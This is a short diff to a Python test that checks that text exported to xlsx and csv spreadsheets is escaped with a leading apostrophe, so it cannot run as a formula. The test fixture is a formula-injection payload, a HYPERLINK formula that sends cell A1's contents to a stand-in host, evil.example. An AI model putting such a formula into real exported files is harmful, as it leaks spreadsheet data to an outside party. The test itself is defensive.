@@ -363,7 +363,7 @@ def test_document_text_never_becomes_a_spreadsheet_formula():
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     rows = [{k: None for k in COLUMNS} | {"text": evil, "verdict": OK}, {k: None for k in COLUMNS} | {"text": "-5 days", "verdict": OK}]
     cell = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(rows)))["Commitments"].cell(2, list(COLUMNS).index("text") + 1)
-    assert cell.data_type == "s" and cell.value == evil
+    assert cell.data_type == "s" and cell.value == "'" + evil
     read = list(csv.DictReader(io.StringIO(matrix_csv(rows))))
     assert read[0]["text"] == "'" + evil
-    assert read[1]["text"] == "-5 days"  # a negative number is left alone
+    assert read[1]["text"] == "'-5 days"  # Excel would read it as =-5 days (tests/test_hostile_text.py has more)
